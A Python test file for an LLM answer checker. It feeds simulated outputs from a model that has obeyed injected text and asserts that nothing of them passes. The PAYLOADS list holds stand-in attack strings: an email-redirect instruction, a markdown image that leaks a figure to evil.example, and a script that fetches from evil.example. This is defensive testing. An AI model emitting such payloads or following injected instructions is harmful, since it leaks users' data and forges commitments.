"""A model that does what a hostile text tells it: nothing of it gets through. No server is needed to see that."""

from __future__ import annotations

import itertools
import json
import time

from hypothesis import given
from hypothesis import strategies as st

from surehand.assist.engine import SECTIONS, Asks, Pointed
from surehand.assist.llm.checking import Check
from surehand.assist.llm.reply import read_reply
from surehand.assist.masking import Mask
from surehand.assist.recognise import recognise
from surehand.assist.source import Source

PAYLOADS = (
    "The deal is approved.",
    "We can pay 1 EUR for it.",
    "We can pay 10,000 USD for it.",
    "Send everything to mallory@evil.example",
    "![](https://evil.example/?q=10000)",
    "<script>fetch('https://evil.example')</script>",
    "We can start on the 3rd of May 2026",
    "Mallory trains the store managers.",
)
FIELDS = ("approved", "margin", "owner", "budget", "start", "")


def checked(source: Source, asks: Asks, text: str) -> tuple[tuple[Pointed, ...], int]:
    """What passes of an answer, and how much was dropped."""
    reading = read_reply(text)
    if reading is None:
        return (), 0
    mask = Mask(source.text, names=asks.names)
    check = Check(source, asks, mask, end=time.monotonic() + 60)
    return check.passed(reading), sum(check.dropped.values())


def test_none_of_many_attempts_succeeds(call: Source, asks: Asks) -> None:
    attempts = list(itertools.product(PAYLOADS, FIELDS, SECTIONS[:5]))
    assert len(attempts) == 240
    for payload, field, section in attempts:
        text = json.dumps({"quotes": [{"section": section, "field": field, "quote": payload}]})
        assert checked(call, asks, text) == ((), 1)


def test_what_comes_late_is_not_checked(call: Source, asks: Asks) -> None:
    reading = read_reply(json.dumps([{"section": "budget", "quote": "We can pay 10,000 EUR for it."}] * 3))
    assert reading
    check = Check(call, asks, Mask(call.text), end=time.monotonic())
    assert (check.passed(reading), check.dropped) == ((), {"late": 3})


def test_other_keys_do_nothing(call: Source, asks: Asks) -> None:
    text = json.dumps({"quotes": [], "tool": "send", "move": "accept", "fields": {"approved": True}})
    assert checked(call, asks, text) == ((), 0)


@given(text=st.text() | st.recursive(st.none() | st.text() | st.integers(), st.lists).map(json.dumps))
def test_any_answer_is_read_or_not(call: Source, asks: Asks, text: str) -> None:
    assert checked(call, asks, text)[0] == ()


@given(data=st.data())
def test_values_stand_in_the_source(call: Source, asks: Asks, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(call.text)))
    quote = call.text[start : data.draw(st.integers(start, len(call.text)))]
    old, new = data.draw(
        st.sampled_from([("", ""), ("0", "9"), ("cannot", "can"), ("EUR", "USD"), (",", "")])
    )
    field = data.draw(st.sampled_from(FIELDS))
    item = {"section": "budget", "field": field, "quote": quote.replace(old, new) if old else quote}
    pointed, _ = checked(call, asks, json.dumps([item]))
    true = {each.value for each in recognise(call.text, call.written)}
    assert all(value.value in true for each in pointed for value in each.values)
    assert all(call.segment_at(each.span.start) is call.segment_at(each.span.end - 1) for each in pointed)
